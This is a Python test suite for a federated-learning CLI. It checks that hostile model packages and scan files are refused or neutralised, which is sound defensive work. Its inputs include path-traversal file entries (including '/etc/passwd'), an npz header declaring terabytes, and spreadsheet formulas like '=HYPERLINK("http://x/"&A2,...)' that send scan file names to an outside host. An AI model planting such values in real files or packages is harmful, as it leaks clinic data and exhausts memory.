"""`p2pfl-node predict` on hostile inputs (file names, folders, .npz files and
packages), and the files `export` reads besides the checkpoint.

A package of an untrained small_cnn is written once for the module (safetensors
only: a second or two); no federation is trained.
"""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from node.cli import main


@pytest.fixture(scope="module")
def package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    import torch

    from p2pfl.learning.export import Architecture, write_package

    torch.manual_seed(0)
    out = tmp_path_factory.mktemp("package")
    arch = Architecture("small_cnn", 1, 2, 16)
    write_package(
        out, arch.build().state_dict(), arch, ["a", "b"], ["safetensors"], torch.rand(4, 1, 16, 16)
    )
    return out


def _png(path: Path | bytes) -> None:
    pixels = np.random.default_rng(0).integers(0, 256, (20, 20), dtype=np.uint8)
    with open(path, "wb") as f:
        Image.fromarray(pixels).save(f, format="PNG")


def test_file_names_that_are_not_utf8_or_hold_a_newline_keep_the_run(
    package: Path, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    """A file named with a byte that is not UTF-8 raised UnicodeEncodeError when
    the CSV was written, after every image was predicted: a traceback and no
    CSV at all. Its row now names the file by its bytes on disk. An unreadable
    file named with a newline printed its reason on two stderr lines (a forged
    second one); the newline is escaped."""
    folder = tmp_path / "in"
    folder.mkdir()
    _png(os.path.join(os.fsencode(folder), b"scan\xff.png"))
    _png(folder / "good.png")
    (folder / "broken\nFORGED.png").write_bytes(b"not an image")
    out = tmp_path / "out.csv"
    assert main(["predict", "--model", str(package), str(folder), "--csv", str(out)]) == 1
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8", "surrogateescape"))))
    assert sorted(os.fsencode(row[0]) for row in rows[1:]) == sorted(
        [os.fsencode(folder / "good.png"), os.path.join(os.fsencode(folder), b"scan\xff.png")]
    )
    err = capsysbinary.readouterr().err.decode().splitlines()
    assert all(line.startswith(("predict: ", "{")) for line in err), err
    assert json.loads(err[-1])["unreadable"] == 1

    # to stdout alike
    assert main(["predict", "--model", str(package), str(folder)]) == 1
    table = capsysbinary.readouterr().out
    assert table.count(b"\n") == 3 and b"scan\xff.png," in table  # header and two rows


def _without_safetensors(meta: dict, folder: Path) -> None:
    import torch

    (folder / "model.safetensors").unlink()
    torch.save({"weight": torch.zeros(1)}, folder / "evil.pt")
    meta["files"]["safetensors"]["file"] = "evil.pt"


def _mismatched_shape(meta: dict, folder: Path) -> None:
    import hashlib

    import torch
    from safetensors.torch import load_file, save_file

    weights = load_file(str(folder / "model.safetensors"))
    first = sorted(weights)[0]
    weights[first] = torch.zeros(3)
    save_file(weights, str(folder / "model.safetensors"))
    digest = hashlib.sha256((folder / "model.safetensors").read_bytes()).hexdigest()
    meta["files"]["safetensors"]["sha256"] = digest


def _set(path: tuple[str, ...], value: object):
    def mutate(meta: dict, folder: Path) -> None:
        target = meta
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value

    return mutate


@pytest.mark.parametrize(
    ("mutate", "says"),
    [
        (_set(("format_version",), "x"), "not a p2pfl-node model description"),
        (_set(("format_version",), None), "not a p2pfl-node model description"),
        (_set(("files", "safetensors"), "model.safetensors"), "not a p2pfl-node model"),
        (_set(("architecture", "image_size"), 10**6), "image_size 8-1024"),
        (_set(("architecture", "image_size"), 0), "image_size 8-1024"),
        (_set(("architecture", "in_chans"), 10**9), "in_chans 1 or 3 or 4"),
        (_set(("files", "safetensors", "file"), "../other/model.safetensors"), "not model.safe"),
        (_set(("files", "safetensors", "file"), "/etc/passwd"), "not model.safetensors"),
        (_without_safetensors, "not model.safetensors"),
        (lambda meta, folder: "[" * 100_000, "not a p2pfl-node model description"),
        (_mismatched_shape, "size mismatch for"),
    ],
    ids=[
        "format-version-text",
        "format-version-null",
        "files-entry-no-object",
        "image-size-huge",
        "image-size-zero",
        "in-chans-huge",
        "file-out-of-the-package",
        "file-absolute",
        "file-torch-load",
        "nested-json",
        "mismatched-shape",
    ],
)
def test_a_package_from_elsewhere_is_refused_in_one_line(
    package: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], mutate, says: str
) -> None:
    """A package may come from another site. Its model.json used to be trusted:
    a text format_version, a files entry that is no object or a deeply nested
    document raised a traceback; image_size 10**6 or in_chans 10**9 asked torch
    for terabytes (a RuntimeError traceback: a smaller value would have been
    allocated); a file named outside the package, or a .pt that torch.load
    unpickles (weights_only, yet not the safetensors docs/export.md promise),
    was read. Each is refused in one line, exit 2, before a weight is read. A
    weight of another shape was refused saying only "Error(s) in loading
    state_dict for SmallCNN:"; the line now says which weight did not fit."""
    import shutil

    folder = tmp_path / "package"
    shutil.copytree(package, folder)
    meta = json.loads((folder / "model.json").read_text())
    changed = mutate(meta, folder)
    (folder / "model.json").write_text(changed if changed is not None else json.dumps(meta))
    _png(tmp_path / "scan.png")
    assert main(["predict", "--model", str(folder), str(tmp_path / "scan.png")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("p2pfl-node: ") and err.count("\n") == 1 and says in err, err


def test_a_folder_deeper_than_the_recursion_limit_is_searched(
    package: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Path.rglob recursed once per level: a scan 1500 folders deep raised
    RecursionError, a traceback for predict and for a node's data folder. The
    walk now keeps a list instead; a link to a folder above (a loop) is not
    followed."""
    folder = tmp_path / "in"
    deep = folder
    folder.mkdir()
    for _ in range(1500):  # one level at a time: mkdir(parents=True) recurses too
        deep = deep / "d"
        deep.mkdir()
    _png(deep / "scan.png")
    (deep / "loop").symlink_to(folder, target_is_directory=True)
    out = tmp_path / "out.csv"
    try:
        assert main(["predict", "--model", str(package), str(folder), "--csv", str(out)]) == 0
        assert out.read_text().count("scan.png") == 1
        assert json.loads(capsys.readouterr().err.splitlines()[-1])["predicted"] == 1
    finally:  # bottom up: shutil.rmtree (pytest's clean-up) recurses once per level too
        while deep != tmp_path:
            for entry in deep.iterdir():
                entry.unlink()
            deep.rmdir()
            deep = deep.parent


def _npz_declaring(path: Path, shape: tuple[int, ...]) -> Path:
    """An .npz whose `images` (and `train_images`) header declares `shape`, with
    100 bytes of data: a few hundred bytes for any declared size."""
    import zipfile

    from numpy.lib import format as npy

    header = io.BytesIO()
    npy.write_array_header_1_0(header, {"descr": "|u1", "fortran_order": False, "shape": shape})
    labels = io.BytesIO()
    np.save(labels, np.zeros(3, np.int64))
    with zipfile.ZipFile(path, "w") as archive:
        for key in ("images", "train_images"):
            archive.writestr(f"{key}.npy", header.getvalue() + b"\0" * 100)
        archive.writestr("train_labels.npy", labels.getvalue())
    return path


def test_an_npz_that_is_truncated_or_declares_terabytes_is_one_unreadable_file(
    package: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A truncated .npz raised zipfile.BadZipFile (no OSError) and one whose
    header declares 10**7 x 1000 x 1000 raised numpy's MemoryError (9 TiB):
    each stopped `predict` with a traceback, the latter a node's start too
    (read_source). Each is one unreadable file, named in one line; the other
    files are predicted."""
    from p2pfl.learning.data import DataError, read_source

    good = tmp_path / "good.npz"
    np.savez(good, images=np.zeros((2, 20, 20), np.uint8))
    truncated = tmp_path / "truncated.npz"
    truncated.write_bytes(good.read_bytes()[:60])
    bomb = _npz_declaring(tmp_path / "bomb.npz", (10**7, 1000, 1000))
    argv = ["predict", "--model", str(package), str(truncated), str(bomb), str(good)]
    assert main(argv) == 1
    captured = capsys.readouterr()
    assert captured.out.count("good.npz[") == 2
    err = captured.err.splitlines()
    assert json.loads(err[-1])["unreadable_files"] == [str(truncated), str(bomb)]
    with pytest.raises(DataError, match="more bytes than this machine holds") as refused:
        read_source(bomb)
    assert str(refused.value).startswith(str(bomb))


def _graph(kind: str):
    from onnx import TensorProto, helper

    image = helper.make_tensor_value_info(
        "x" if kind == "input-named-x" else "image", TensorProto.FLOAT, ["N", 1, 16, 16]
    )
    out = helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, None)
    if kind == "unknown-operator":
        node = helper.make_node("Evil", [image.name], ["probabilities"], domain="com.evil")
        opsets = [helper.make_opsetid("", 17), helper.make_opsetid("com.evil", 1)]
    else:  # 256 "probabilities" per image
        node = helper.make_node("Flatten", [image.name], ["probabilities"])
        opsets = [helper.make_opsetid("", 17)]
    graph = helper.make_graph([node], "g", [image], [out])
    return helper.make_model(graph, opset_imports=opsets)


@pytest.mark.parametrize(
    ("kind", "says"),
    [
        ("input-named-x", "not the one named 'image'"),
        ("256-outputs", "shape (2, 256), not 2 x 2"),
        ("unknown-operator", "onnxruntime cannot load it"),
    ],
)
def test_an_onnx_graph_that_cannot_serve_is_refused_in_one_line(
    package: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str, says: str
) -> None:
    """An ONNX graph from another site's package (hashed by its own model.json)
    that names its input otherwise, answers 256 columns for 2 classes or uses
    an operator onnxruntime lacks stopped `predict --runtime onnx` with a
    ValueError, IndexError or onnxruntime's own error: tracebacks. The package
    is refused in one line, exit 2, found on two blank images before any scan."""
    import hashlib
    import shutil

    import onnx

    folder = tmp_path / "package"
    shutil.copytree(package, folder)
    onnx.save_model(_graph(kind), str(folder / "model.onnx"))
    meta = json.loads((folder / "model.json").read_text())
    digest = hashlib.sha256((folder / "model.onnx").read_bytes()).hexdigest()
    meta["files"]["onnx"] = {"file": "model.onnx", "sha256": digest}
    (folder / "model.json").write_text(json.dumps(meta))
    _png(tmp_path / "scan.png")
    argv = ["predict", "--runtime", "onnx", "--model", str(folder), str(tmp_path / "scan.png")]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert err.startswith("p2pfl-node: ") and err.count("\n") == 1 and says in err, err


def test_a_csv_that_cannot_be_written_is_refused_before_a_scan_is_read(
    package: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """--csv naming a folder, or a file under a path that cannot be a folder,
    raised IsADirectoryError or FileNotFoundError once every image had been
    predicted: a traceback, and the run lost. Refused first, in one line."""
    _png(tmp_path / "scan.png")
    (tmp_path / "plain").write_text("a file, not a folder\n")
    for target in (tmp_path, tmp_path / "plain" / "out.csv"):
        argv = [
            "predict",
            "--model",
            str(package),
            str(tmp_path / "scan.png"),
            "--csv",
            str(target),
        ]
        assert main(argv) == 2
        err = capsys.readouterr().err
        assert err.startswith("p2pfl-node: predict: --csv") and err.count("\n") == 1, err


@pytest.mark.parametrize(
    "text", ['{"matrix": 5}', "[" * 100_000, '{"split": "test"'], ids=["number", "nested", "cut"]
)
def test_exports_cross_site_file_that_is_not_evaluates_is_refused_in_one_line(
    tmp_path: Path, text: str
) -> None:
    """`export --cross-site` took a "matrix" that is a number (TypeError) or a
    deeply nested document (RecursionError) as a traceback; each is an
    ExportError of one line, as a cut file was."""
    from node.export import _cross_site
    from p2pfl.learning.export import ExportError

    path = tmp_path / "eval.json"
    path.write_text(text)
    with pytest.raises(ExportError, match="not the JSON of") as refused:
        _cross_site(path)
    assert "\n" not in str(refused.value)


def test_a_fifo_is_never_opened_and_named_for_what_it_is(
    package: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A FIFO named like a scan, given by name, was reported as "no such file
    or folder"; it is "not a regular file", and neither it nor one in a
    folder is opened (reading one blocks until a writer comes)."""
    folder = tmp_path / "in"
    folder.mkdir()
    os.mkfifo(folder / "pipe.png")
    _png(folder / "scan.png")
    argv = ["predict", "--model", str(package), str(folder), str(folder / "pipe.png")]
    assert main(argv) == 1
    err = capsys.readouterr().err.splitlines()
    assert f"predict: {folder / 'pipe.png'}: not a regular file or a folder" in err
    assert json.loads(err[-1])["predicted"] == 1


@pytest.mark.parametrize(
    ("images", "says"),
    [
        (np.zeros((2, 0, 5), np.uint8), "5x0 pixels hold none"),
        (np.full((2, 20, 20), np.nan, np.float32), "NaN or infinite"),
    ],
    ids=["no-pixels", "nan"],
)
def test_npz_images_without_pixels_or_with_nan_are_refused(
    package: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], images, says: str
) -> None:
    """An .npz of 0 x 5 images stopped `predict` with torch's RuntimeError at
    its resize (a traceback; a data source read them without a word); one of
    NaN floats was predicted as if every pixel were 0. Both are refused, one
    unreadable file for predict and a DataError for a data source."""
    from p2pfl.learning.data import DataError, read_source

    bad = tmp_path / "bad.npz"
    np.savez(bad, images=images, train_images=images, train_labels=np.zeros(2, np.int64))
    _png(tmp_path / "scan.png")
    assert main(["predict", "--model", str(package), str(bad), str(tmp_path / "scan.png")]) == 1
    err = capsys.readouterr().err.splitlines()
    assert json.loads(err[-1])["unreadable_files"] == [str(bad)]
    assert any(says in line for line in err), err
    with pytest.raises(DataError, match=says):
        read_source(bad)


def test_a_float_tiff_with_nan_is_an_unreadable_file(tmp_path: Path) -> None:
    """A 32-bit float TIFF holding NaN was read as pixels of 0 (with numpy's
    RuntimeWarning on stderr); it is refused as bad_values."""
    import warnings

    from p2pfl.learning.data import DataError
    from p2pfl.learning.data.sources import read_image_file

    pixels = np.full((8, 8), np.nan, np.float32)
    Image.fromarray(pixels, mode="F").save(tmp_path / "nan.tif")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        with pytest.raises(DataError, match="NaN or infinite") as refused:
            read_image_file(tmp_path / "nan.tif")
    assert refused.value.reason == "bad_values"


def test_a_class_name_a_spreadsheet_would_run_is_written_as_text(
    package: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Class names come from model.json, which a package from another site
    writes: '=HYPERLINK("http://x/"&A2,"normal")' went into the CSV's header
    and prediction column as it stood, a formula in the clinic's spreadsheet
    that sends each scan's file name away. Such a name starts with an
    apostrophe in the CSV (OWASP's neutralisation); others are unchanged."""
    import shutil

    folder = tmp_path / "package"
    shutil.copytree(package, folder)
    meta = json.loads((folder / "model.json").read_text())
    formula = '=HYPERLINK("http://x/"&A2,"normal")'
    meta["classes"] = [formula, "b"]
    (folder / "model.json").write_text(json.dumps(meta))
    _png(tmp_path / "scan.png")
    assert main(["predict", "--model", str(folder), str(tmp_path / "scan.png")]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0] == ["file", "prediction", "'" + formula, "b"]
    assert rows[1][1] in ("'" + formula, "b")
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_a_file_name_a_spreadsheet_would_run_is_written_as_text(
    package: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The `file` column was written as it stood while class names were
    neutralised: a scan named '=HYPERLINK("https:x.org?"&B2).png' (a name a
    PACS export or a colleague's archive chose), predicted from its own folder
    (`predict --model M .`), or an .npz so named, put a formula in the clinic's
    spreadsheet. A file name starting with = + - @, a tab or a carriage return
    gets the apostrophe a class name gets; others are unchanged."""
    folder = tmp_path / "scans"
    folder.mkdir()
    names = ['=HYPERLINK("https:x.org?"&B2).png', "+1.png", "-2.png", "@SUM(1).png", "\tx.png"]
    for name in names:
        _png(folder / name)
    _png(folder / "plain.png")
    np.savez(folder / "=npz.npz", images=np.zeros((1, 8, 8), dtype=np.uint8))
    monkeypatch.chdir(folder)
    assert main(["predict", "--model", str(package), "."]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    files = sorted(row[0] for row in rows[1:])
    expected = sorted(["'" + name for name in names] + ["plain.png", "'=npz.npz[0]"])
    assert files == expected, files


def test_a_package_naming_one_class_column_twice_is_refused(
    package: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """model.json's classes ["a", "a"], or ["=x", "'=x"] (the first written
    '=x once neutralised), gave the CSV two probability columns of one name:
    a reader keyed by name (csv.DictReader, a spreadsheet lookup) took one
    class's probability for the other's. Such a package is refused, exit 2."""
    import shutil

    _png(tmp_path / "scan.png")
    for classes in (["a", "a"], ["=x", "'=x"]):
        folder = tmp_path / f"package{len(classes[1])}"
        shutil.copytree(package, folder)
        meta = json.loads((folder / "model.json").read_text())
        meta["classes"] = classes
        (folder / "model.json").write_text(json.dumps(meta))
        assert main(["predict", "--model", str(folder), str(tmp_path / "scan.png")]) == 2
        captured = capsys.readouterr()
        assert "twice" in captured.err and captured.err.count("\n") == 1, captured.err
        assert captured.out == ""


def test_an_onnx_file_larger_than_protobuf_allows_is_refused_unread(
    package: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`predict --runtime onnx` read model.onnx whole, to hash and run the same
    bytes, whatever its size: a package from elsewhere with a 50 GB model.onnx
    took 50 GB of memory before its hash could be checked. No ONNX model with
    its weights inside exceeds protobuf's 2 GiB, so a larger file is refused
    before a byte is read (a sparse file here: no disk is used)."""
    import shutil

    folder = tmp_path / "package"
    shutil.copytree(package, folder)
    with open(folder / "model.onnx", "wb") as f:
        f.truncate(1 << 31)
    meta = json.loads((folder / "model.json").read_text())
    meta["files"]["onnx"] = {"file": "model.onnx", "sha256": "0" * 64}
    (folder / "model.json").write_text(json.dumps(meta))
    _png(tmp_path / "scan.png")
    argv = ["predict", "--runtime", "onnx", "--model", str(folder), str(tmp_path / "scan.png")]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert "protobuf's limit" in err and err.count("\n") == 1, err
